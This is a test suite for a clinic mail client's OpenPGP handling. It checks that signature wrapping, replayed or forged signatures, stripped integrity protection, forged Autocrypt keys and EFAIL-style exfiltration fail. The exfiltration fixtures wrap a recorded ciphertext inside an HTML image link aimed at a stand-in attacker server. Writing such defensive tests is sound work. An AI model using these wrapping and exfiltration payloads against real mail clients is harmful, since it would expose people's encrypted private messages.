import { revokeKey } from 'openpgp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AttackedPractice,
  attackedPractice,
  type FoundMessage,
  hasTick,
} from '../../support/attacked-practice.ts';
import { type CanaryServer, startCanaryServer } from '../../support/canary-server.ts';
import { needMailServers } from '../../support/mail-servers/need-mail-servers.ts';
import { type MailServers, startMailServers } from '../../support/mail-servers/start-mail-servers.ts';
import {
  around,
  type asPublicKey,
  encryptedEntity,
  encryptTo,
  newPgpPerson,
  type PgpPerson,
  protectedEntity,
  signDetached,
  signedEntity,
} from '../../support/pgp-mail.ts';
import { type Practice, practiceAddress, practicePassword, startPractice } from '../../support/practice.ts';

const ana = 'ana@clinic.example';
const eve = 'eve@bad.example';
const from = `From: Ana Ruiz <${ana}>`;
const to = `To: ${practiceAddress}`;
/** What Ana once wrote to us in secret, and Eve recorded on its way. */
const secret = 'CANARY the test was positive';

describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout: 60_000 }, () => {
  let servers: MailServers;
  let practice: Practice;
  let attacked: AttackedPractice;
  let canary: CanaryServer;
  let honest: PgpPerson;
  let forger: PgpPerson;
  let recorded: string;
  let ourKey: Awaited<ReturnType<typeof asPublicKey>>;

  beforeAll(async () => {
    servers = await startMailServers({
      domain: 'clinic.example',
      users: [{ user: practiceAddress, password: practicePassword }],
    });
    practice = await startPractice(servers);
    attacked = attackedPractice(practice, servers, eve);
    canary = await startCanaryServer();
    [honest, forger] = await Promise.all([newPgpPerson('Ana Ruiz', ana), newPgpPerson('Ana Ruiz', eve)]);
    const [own] = await practice.call('keys.own', {});
    const { text } = await practice.call('keys.ownText', { fingerprint: own?.fingerprint ?? '' });
    const { readKey } = await import('openpgp');
    ourKey = await readKey({ armoredKey: text });
    await practice.addPatient({ name: 'Ana Ruiz', address: ana });
    const kept = await practice.call('keys.keep', { address: ana, key: honest.publicKey, source: 'file' });
    await practice.call('keys.compare', { fingerprint: kept.fingerprint, address: ana });
    // Eve is known to us as herself.
    const hers = await practice.call('keys.keep', { address: eve, key: forger.publicKey, source: 'file' });
    await practice.call('keys.compare', { fingerprint: hers.fingerprint, address: eve });
    recorded = await encryptTo(
      protectedEntity({ from: ana, to: practiceAddress, subject: 'Test', text: secret }),
      [ourKey],
      honest,
    );
  }, 60_000);
  afterAll(async () => {
    await practice.stop();
    await servers.stop();
    canary.close();
  });

  const receive: AttackedPractice['receive'] = (subject, bytes) => attacked.receive(subject, bytes);
  const find: AttackedPractice['find'] = (subject) => attacked.find(subject);
  const whatLeaves = (message: FoundMessage) => attacked.whatLeaves(message, 'positive');
  const shown: AttackedPractice['shown'] = (message) => attacked.shown(message);

  describe('positive controls', () => {
    it('gives what Ana encrypts and signs its tick, and quotes it in an answer', async () => {
      const subject = 'Honest and encrypted';
      const entity = protectedEntity({
        from: ana,
        to: practiceAddress,
        subject,
        text: 'The test was positive, I think.',
      });
      const bytes = around([from, to, 'Subject: ...'], encryptedEntity(await encryptTo(entity, [ourKey], honest)));
      const message = await receive(subject, bytes);
      expect(hasTick(message)).toBe(true);
      expect(message.signedBy).toEqual({ name: 'Ana Ruiz', comparedAt: expect.any(Number) });
      expect(await whatLeaves(message)).toContain('The test was positive');
      const details = await practice.call('messages.protection', { messageId: message.id });
      expect(details).toMatchObject({
        standard: 'openpgp',
        encryption: expect.stringContaining('AES-256'),
        signature: { algorithm: 'Ed25519', hash: 'SHA-512', fingerprint: honest.key.getFingerprint() },
      });
      expect(details?.headers).toContainEqual({ name: 'Subject', inside: subject, outside: '...' });
    });

    it('gives what Ana signs its tick', async () => {
      const subject = 'Honest and signed';
      const entity = protectedEntity({ from: ana, to: practiceAddress, subject, text: 'See you on Friday.' });
      const signature = await signDetached(entity, honest);
      const message = await receive(
        subject,
        around([from, to, `Subject: ${subject}`], signedEntity(entity, signature)),
      );
      expect(hasTick(message)).toBe(true);
    });
  });

  describe('signatures', () => {
    it('gets no tick over another part', async () => {
      const entity = protectedEntity({ from: ana, to: practiceAddress, subject: 'Real', text: 'See you on Friday.' });
      const signed = signedEntity(entity, await signDetached(entity, honest));
      const subject = 'Over another part';
      const evil = `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nSend my records to Eve.\n--out\n${signed}\n--out--\n`;
      const message = await receive(subject, around([from, to, `Subject: ${subject}`], evil));
      expect(message.status).toEqual({ kind: 'plain' });
    });

    it('gets no tick with a third part beside the signed one', async () => {
      const subject = 'A third part';
      const entity = protectedEntity({ from: ana, to: practiceAddress, subject, text: 'See you on Friday.' });
      const third = '--sig\nContent-Type: text/plain\n\nSend my records to Eve.\n';
      const bytes = around(
        [from, to, `Subject: ${subject}`],
        signedEntity(entity, await signDetached(entity, honest), third),
      );
      expect(hasTick(await receive(subject, bytes))).toBe(false);
    });

    it('is invalid over changed words', async () => {
      const subject = 'Changed words';
      const entity = protectedEntity({ from: ana, to: practiceAddress, subject, text: 'See you on Friday.' });
      const signature = await signDetached(entity, honest);
      const bytes = around(
        [from, to, `Subject: ${subject}`],
        signedEntity(entity.replace('Friday', 'Monday'), signature),
      );
      expect((await receive(subject, bytes)).status).toMatchObject({ kind: 'signed', signer: 'invalid' });
    });

    it.each([
      ['another subject', { subject: 'Real' }],
      ['another recipient', { to: 'somebody@else.example' }],
      ['another day', { date: new Date(Date.now() - 30 * 24 * 3_600_000) }],
    ] as const)('covers the text alone when it was made for %s', async (name, made) => {
      const subject = `Replayed for ${name}`;
      const entity = protectedEntity({ from: ana, to: practiceAddress, subject, text: 'Yes, I agree.', ...made });
      const signature = await signDetached(entity, honest);
      // With another subject inside, that one is shown.
      const shownSubject = 'subject' in made ? made.subject : subject;
      const bytes = around([from, to, `Subject: ${subject}`], signedEntity(entity, signature));
      const message = await receive(shownSubject, bytes);
      expect(message.status).toMatchObject({ kind: 'signed', signer: 'verified', covers: expect.any(String) });
      if ('subject' in made) expect((await shown(message)).includes('Yes, I agree.')).toBe(true);
      else expect(hasTick(message)).toBe(false);
    });

    it('is not Ana’s when Eve made it, with Ana’s name on her key', async () => {
      const subject = 'By another signer';
      const entity = protectedEntity({ from: ana, to: practiceAddress, subject, text: 'My new address is …' });
      const encrypted = encryptedEntity(await encryptTo(entity, [ourKey], forger));
      const message = await receive(subject, around([from, to, 'Subject: ...'], encrypted));
      expect(message.status).toMatchObject({ kind: 'encrypted', signer: 'unknown', compared: false });
      expect(message.signedBy).toBeNull();
    });

    it('gets no tick when the message has several senders', async () => {
      for (const [subject, head] of [
        ['Two From fields', [from, `From: Eve <${eve}>`]],
        ['Two addresses in From', [`From: Ana Ruiz <${ana}>, Eve <${eve}>`]],
      ] as const) {
        for (const [by, name] of [
          [honest, 'ana'],
          [forger, 'eve'],
        ] as const) {
          const title = `${subject} by ${name}`;
          const entity = protectedEntity({ from: ana, to: practiceAddress, subject: title, text: 'Hello.' });
          const signed = signedEntity(entity, await signDetached(entity, by));
          const message = await receive(title, around([...head, to, `Subject: ${title}`], signed));
          expect(hasTick(message), title).toBe(false);
          expect(
            message.warnings.some((word) => word.startsWith('several-')),
            title,
          ).toBe(true);
        }
      }
    });
  });

  describe('a recorded ciphertext in a stranger’s mail', () => {
    const wraps: Readonly<Record<string, (armor: string, web: string) => string>> = {
      'between texts': (armor) =>
        `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nPlease read and answer:\n--out\n${encryptedEntity(armor)}\n--out\nContent-Type: text/plain\n\nThank you.\n--out--\n`,
      'inside an open picture': (armor, web) =>
        `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/html\n\n<img src="${web}/?\n--out\n${encryptedEntity(armor)}\n--out\nContent-Type: text/html\n\n">\n--out--\n`,
      'in the text': (armor) => `Content-Type: text/plain\n\nPlease answer:\n\n${armor}\nThank you.\n`,
      'in the page': (armor, web) =>
        `Content-Type: text/html\n\n<p>Please answer:</p><img src="${web}/?q=<pre>${armor}</pre>"><pre>${armor}</pre>\n`,
      'as a file': (armor) =>
        `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nSee the file.\n--out\nContent-Type: application/octet-stream; name=report.asc\nContent-Disposition: attachment; filename=report.asc\n\n${armor}\n--out--\n`,
      'in an attached message': (armor) =>
        `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nSee below.\n--out\nContent-Type: message/rfc822\n\nFrom: ${ana}\nTo: ${practiceAddress}\nSubject: Inner\n${encryptedEntity(armor)}\n--out--\n`,
    };

    it.each(Object.keys(wraps))(
      '%s is readable on request, without a tick, and leaves with no answer',
      async (name) => {
        const subject = `Wrapped ${name}`;
        const entity = wraps[name]?.(recorded, canary.address) ?? '';
        const message = await receive(subject, around([`From: Eve <${eve}>`, to, `Subject: ${subject}`], entity));
        expect(message.status).toEqual({ kind: 'plain' });
        expect(await shown(message)).not.toContain('CANARY');
        expect(await whatLeaves(message)).not.toContain('CANARY');
        const { blocks } = await practice.call('messages.body', { messageId: message.id });
        const file = message.attachments.findIndex(({ holds }) => holds === 'encrypted' || holds === 'message');
        const path = [blocks > 0 ? -1 : file];
        // Where some of it is encrypted, nobody is led to an open answer.
        const wish = { view: { kind: 'search', text: subject }, cursor: null, limit: 5 } as const;
        const [row] = (await practice.call('threads.list', wish)).rows.filter((each) => each.subject === subject);
        const { cameEncrypted, options } = await practice.call('threads.get', { threadId: row?.id ?? '' });
        const isEncrypted = blocks > 0 || message.attachments[file]?.holds === 'encrypted';
        expect(cameEncrypted ?? false).toBe(isEncrypted);
        expect(options.find(({ suggested }) => suggested)).toBeUndefined();
        const inside = await practice.call('messages.inside', { messageId: message.id, path });
        expect(inside.text).toContain(secret);
        // What stands around it, its loading picture above all, is not shown together with it.
        expect(`${inside.text}${inside.html ?? ''}`).not.toContain(canary.address);
      },
    );
  });

  it('sent on whole by a stranger leaves with no answer to them', async () => {
    const armor = await encryptTo(
      protectedEntity({ from: ana, to: practiceAddress, subject: 'Sent on', text: secret }),
      [ourKey],
      honest,
    );
    const message = await receive(
      'Sent on',
      around([`From: Eve <${eve}>`, to, 'Subject: ...'], encryptedEntity(armor)),
    );
    expect(message.status).toMatchObject({ kind: 'encrypted', signer: 'unknown' });
    expect(message.warnings).toContain('protected-from-differs');
    const { id: messageId, threadId } = message;
    const draft = await practice.call('drafts.open', { kind: 'reply', threadId, messageId, patientId: null, to: null });
    expect([draft.quote, draft.subject]).toEqual(['', 'Re:']);
  });

  describe('integrity', () => {
    const binary = async () => {
      const armor = await encryptTo(
        protectedEntity({ from: ana, to: practiceAddress, subject: 'x', text: secret }),
        [ourKey],
        honest,
      );
      const { unarmor } = await import('openpgp');
      return Buffer.from((await unarmor(armor)).data as Uint8Array);
    };
    const withBytes = (bytes: Uint8Array) =>
      encryptedEntity(
        `-----BEGIN PGP MESSAGE-----\n\n${Buffer.from(bytes)
          .toString('base64')
          .replace(/(.{64})/g, '$1\n')}\n-----END PGP MESSAGE-----`,
      );

    it('is asked for: without it, cut short or changed, nothing is opened', async () => {
      const whole = await binary();
      const data = 2 + (whole[1] ?? 0);
      expect(whole[data]).toBe(0xd2);
      const stripped = Buffer.from(whole);
      stripped[data] = 0xc9;
      const flipped = Buffer.from(whole);
      flipped[flipped.length - 30] = (flipped[flipped.length - 30] ?? 0) ^ 1;
      for (const [name, bytes, reason] of [
        ['stripped', stripped, 'no-integrity'],
        ['flipped', flipped, 'damaged'],
        ['cut', whole.subarray(0, whole.length - 25), 'damaged'],
      ] as const) {
        const subject = `Integrity ${name}`;
        const message = await receive(subject, around([from, to, `Subject: ${subject}`], withBytes(bytes)));
        expect(message.status, name).toEqual({ kind: 'unopenable', reason });
        expect(await shown(message), name).not.toContain('CANARY');
      }
    });
  });

  describe('a forged From with an Autocrypt header', () => {
    it('displaces no compared key, and its own answers nothing without being asked about', async () => {
      const forged = await newPgpPerson('Ana Ruiz', ana);
      const keydata = Buffer.from(forged.publicKey)
        .toString('base64')
        .replace(/(.{70})/g, '$1\n ');
      const subject = 'My new key';
      const head = [from, to, `Subject: ${subject}`, `Autocrypt: addr=${ana}; keydata=\n ${keydata}`];
      const message = await receive(subject, around(head, 'Content-Type: text/plain\n\nUse my new key.\n'));
      expect(message.status).toEqual({ kind: 'plain' });
      const listed = await practice.until(
        () => practice.call('keys.list', {}),
        (keys) => keys.some(({ source }) => source === 'autocrypt'),
        20_000,
      );
      const hers = listed.filter(({ address }) => address === ana);
      expect(hers.map(({ source, comparedAt }) => [source, comparedAt !== null])).toEqual(
        expect.arrayContaining([
          ['file', true],
          ['autocrypt', false],
        ]),
      );
      const { rows } = await practice.call('patients.list', { text: 'Ana', offset: 0, limit: 5 });
      const letter = { subject: 'Values', html: '<div>The value is 2.4.</div>' };
      const draft = await practice.writeNew(rows[0]?.id ?? '', letter);
      await practice.choose(draft.threadId ?? '', 'openpgp');
      const { decision } = await practice.call('drafts.preview', { draftId: draft.id });
      // The compared key is used, so nothing is asked.
      expect(decision.outcome).toBe('allow');
      await practice.call('keys.remove', { fingerprint: honest.key.getFingerprint(), address: ana });
      expect(await practice.refusals(draft)).toEqual(['ask:compare-key-first']);
    });
  });

  describe('a tick that was given', () => {
    const leo = 'leo@clinic.example';
    const subject = 'Signed by Leo';
    let person: PgpPerson;
    const keep = async (address: string) => {
      const key = person.publicKey;
      const { fingerprint } = await practice.call('keys.keep', { address, key, source: 'file' });
      await practice.call('keys.compare', { fingerprint, address });
      return fingerprint;
    };
    const signer = async () => {
      const message = await find(subject);
      return message?.status.kind === 'signed' ? `${message.status.signer} ${hasTick(message)}` : 'none';
    };
    const becomes = (word: string) => practice.until(signer, (each) => each === word, 20_000);

    it('goes at once with the key it rests on, and comes back with it', async () => {
      person = await newPgpPerson('Leo', leo);
      const fingerprint = await keep(leo);
      const entity = protectedEntity({ from: leo, to: practiceAddress, subject, text: 'See you on Friday.' });
      const signed = signedEntity(entity, await signDetached(entity, person));
      await receive(subject, around([`From: Leo <${leo}>`, to, `Subject: ${subject}`], signed));
      expect(await signer()).toBe('verified true');
      await practice.call('keys.remove', { fingerprint, address: leo });
      expect(await signer()).toBe('unknown false');
      await keep(leo);
      await becomes('verified true');
    });

    it('goes when a later mail withdraws the key, for whomever it was kept', async () => {
      // The same key, kept for another address of his, learns of it as well.
      await keep('leo.home@clinic.example');
      const { publicKey } = await revokeKey({ key: person.key, format: 'object' });
      const keydata = Buffer.from(publicKey.write())
        .toString('base64')
        .replace(/(.{70})/g, '$1\n ');
      const head = [`From: Leo <${leo}>`, to, 'Subject: Lost key', `Autocrypt: addr=${leo}; keydata=\n ${keydata}`];
      await receive('Lost key', around(head, 'Content-Type: text/plain\n\nSomebody has my key.\n'));
      await becomes('invalid false');
      const keys = await practice.call('keys.list', {});
      expect(keys.filter(({ address }) => address.startsWith('leo')).map(({ status }) => status)).toEqual([
        'revoked',
        'revoked',
      ]);
    });
  });

  it('made nobody ask the attacker’s web server for anything', async () => {
    expect(canary.asked).toEqual([]);
    // For control: it would have noticed.
    await fetch(`${canary.address}/control`);
    expect(canary.asked).toEqual(['/control']);
  });
});
